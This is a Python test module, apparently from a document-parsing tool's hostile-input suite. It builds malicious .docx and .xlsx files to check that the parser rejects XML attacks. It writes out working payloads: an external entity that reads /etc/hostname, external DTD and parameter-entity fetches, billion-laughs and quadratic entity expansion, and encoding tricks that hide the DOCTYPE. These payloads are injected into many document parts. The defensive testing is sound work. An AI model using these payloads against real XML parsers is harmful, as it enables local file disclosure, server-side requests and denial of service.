"""XML that reads other files, grows without end, or hides what it is (faults.md S2)."""

from tests.hostile.bases import BODY, BODY_RELS, BOOK, SHEET, TYPES, book, letter, repack
from tests.hostile.catalogue import Family

XML = Family("xml")
_DOCX, _XLSX = "laporan.docx", "data.xlsx"
_READS = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
_ASKS = '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">'
_PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/a.dtd"> %x;]>'
_LAUGHS = (
    "<!DOCTYPE a [<!ENTITY l0 'ha'>"
    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
_QUADRATIC = f"<!DOCTYPE a [<!ENTITY x '{'a' * 50_000}'>]>"


def _before_root(text: str):
    def change(content: bytes) -> bytes:
        head, mark, rest = content.partition(b"?>")
        if not head.startswith(b"<?xml"):
            return text.encode() + content
        return head + mark + text.encode() + rest

    return change


def _in_encoding(encoding: str, declared: str = ""):
    def change(content: bytes) -> bytes:
        text = content.decode("utf-8").partition("?>")[2] or content.decode("utf-8")
        head = f'<?xml version="1.0" encoding="{declared or encoding}"?>{_READS}'
        return (head + text).encode(encoding)

    return change


XML.each(
    "H15",
    _DOCX,
    [
        (f"{what} in {part}", lambda part=part, text=text: repack(
            letter(), change={part: _before_root(text)}))
        for part in (BODY, BODY_RELS, TYPES, "word/styles.xml", "docProps/core.xml")
        for what, text in (("an outside entity", _READS), ("an outside type", _ASKS))
    ],
)  # fmt: skip

XML.each(
    "H15",
    _DOCX,
    [
        ("an outside parameter", lambda: repack(letter(), change={BODY: _before_root(_PARAMETER)})),
        ("a billion laughs", lambda: repack(letter(), change={BODY: _before_root(_LAUGHS)})),
        ("a blow-up of one long text", lambda: repack(
            letter(), change={BODY: _before_root(_QUADRATIC)})),
        ("a type behind a long comment", lambda: repack(
            letter(), change={BODY: _before_root(f"<!--{'x' * 2_000_000}-->{_READS}")})),
        ("a type that is broken", lambda: repack(
            letter(), change={BODY: _before_root("<!DOCTYPE a [ <!ENTITY")})),
        ("utf-16 with a type", lambda: repack(
            letter(), change={BODY: _in_encoding("utf-16")})),
        ("utf-16 without a mark", lambda: repack(
            letter(), change={BODY: _in_encoding("utf-16-le", "utf-16")})),
        ("utf-16 the other way round", lambda: repack(
            letter(), change={BODY: _in_encoding("utf-16-be", "utf-16")})),
        ("utf-32", lambda: repack(letter(), change={BODY: _in_encoding("utf-32")})),
        ("utf-7", lambda: repack(letter(), change={BODY: _in_encoding("utf-7")})),
        ("ebcdic", lambda: repack(letter(), change={BODY: _in_encoding("cp037")})),
        ("an encoding that is only declared", lambda: repack(
            letter(), change={BODY: _in_encoding("ascii", "cp037")})),
        ("custom xml with a type", lambda: repack(
            letter(), add={"customXml/item9.xml": f"<?xml version='1.0'?>{_READS}<a>&x;</a>".encode()})),
        ("custom xml in utf-16 with a type", lambda: repack(
            letter(), add={"customXml/item9.xml": f"{_READS}<a>&x;</a>".encode("utf-16")})),
        ("a type in a part nobody names", lambda: repack(
            letter(), add={"word/lain.xml": f"{_READS}<a>&x;</a>".encode()})),
        ("a type in a drawing", lambda: repack(
            letter(), add={"word/drawings/vmlDrawing1.vml": f"{_READS}<xml>&x;</xml>".encode()})),
        ("a type in a picture", lambda: repack(
            letter(), add={"word/media/a.svg": f"{_READS}<svg>&x;</svg>".encode()})),
    ],
)  # fmt: skip

XML.each(
    "H15",
    _XLSX,
    [
        ("an outside entity in the workbook", lambda: repack(
            book(), change={BOOK: _before_root(_READS)})),
        ("an outside entity in a sheet", lambda: repack(
            book(), change={SHEET: _before_root(_READS)})),
        ("a billion laughs in a sheet", lambda: repack(
            book(), change={SHEET: _before_root(_LAUGHS)})),
        ("a sheet in utf-16", lambda: repack(book(), change={SHEET: _in_encoding("utf-16")})),
        ("a type in the middle of a long sheet", lambda: repack(
            book(), change={SHEET: lambda sheet: sheet.replace(
                b"<sheetData>", b"<sheetData>" + b" " * 1_500_000 + _READS.encode())})),
    ],
)  # fmt: skip

XML.each(
    "H06",
    _DOCX,
    [
        ("relationships that end early", lambda: repack(
            letter(), change={BODY_RELS: lambda rels: rels[:-20]})),
        ("content types that end early", lambda: repack(
            letter(), change={TYPES: lambda types: types[:-20]})),
        ("elements in elements", lambda: repack(
            letter(), change={BODY: lambda body: body.replace(
                b"<w:body>", b"<w:body><w:instrText/>" + b"<a>" * 30_000 + b"</a>" * 30_000)})),
        ("no document where the package says it is", lambda: repack(
            letter(), change={"_rels/.rels": lambda rels: rels.replace(
                b"word/document.xml", b"word/tiada.xml")})),
    ],
)  # fmt: skip
